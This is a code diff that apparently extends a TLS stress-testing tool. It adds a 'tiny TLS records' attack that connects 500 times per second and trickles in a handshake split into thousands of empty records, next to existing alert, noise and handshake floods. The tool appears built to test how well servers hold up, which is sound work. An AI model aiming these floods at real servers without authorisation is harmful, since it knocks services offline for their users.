@@ -4,6 +4,7 @@
 import { randomBytes } from 'node:crypto';
 import { once } from 'node:events';
 import { type AddressInfo, createServer, type Socket } from 'node:net';
+import { setTimeout as sleep } from 'node:timers/promises';
 import { connect } from 'node:tls';
 import type { Attack, Target } from './attack.ts';
 import { type Connects, connects } from './flood.ts';
@@ -31,6 +32,7 @@ export const TLS_ATTACKS: Readonly<Record<string, Attack>> = Object.fromEntries(
       [`TLS alerts at once, ${name}`, connecting({ perS: 1000, lingerMs: 1000, use: sendAlerts })],
       [`TLS alerts in the handshake, ${name}`, alertsInHandshake(portOf)],
       [`bytes that are not TLS, ${name}`, connecting({ perS: 1000, lingerMs: 1000, use: sendNoise })],
+      [`tiny TLS records, ${name}`, connecting({ perS: 500, lingerMs: 1000, use: sendTinyRecords })],
       [`TLS handshakes, ${name}`, connecting({ perS: 500, lingerMs: 200, tls: true })],
     ] satisfies [string, Attack][];
   }),
@@ -43,6 +45,24 @@ async function sendAlerts(socket: Socket): Promise<void> {
 async function sendNoise(socket: Socket): Promise<void> {
   // The record says that it is a handshake, but it holds random bytes.
   socket.write(Buffer.concat([Buffer.of(0x16, 3, 1, 0x3e, 0x80), randomBytes(16_000)]));
+}
+
+/**
+ * A handshake message that never ends, in 3,276 records without a byte of it, in as many pieces and bytes as a server waits for.
+ */
+const TINY_RECORDS = Buffer.concat([
+  Buffer.of(0x16, 3, 1, 0, 4, 1, 0xff, 0xff, 0xff),
+  ...Array<Buffer>(3276).fill(Buffer.of(0x16, 3, 1, 0, 0)),
+]).subarray(0, 16_383);
+const PIECES = 15;
+const PIECE_BYTES = Math.ceil(TINY_RECORDS.length / PIECES);
+
+async function sendTinyRecords(socket: Socket): Promise<void> {
+  socket.setNoDelay(true);
+  for (let at = 0; at < TINY_RECORDS.length && socket.writable; at += PIECE_BYTES) {
+    socket.write(TINY_RECORDS.subarray(at, at + PIECE_BYTES));
+    await sleep(20);
+  }
 }
 
 /** An attack that answers the server's part of the handshake with an alert. */
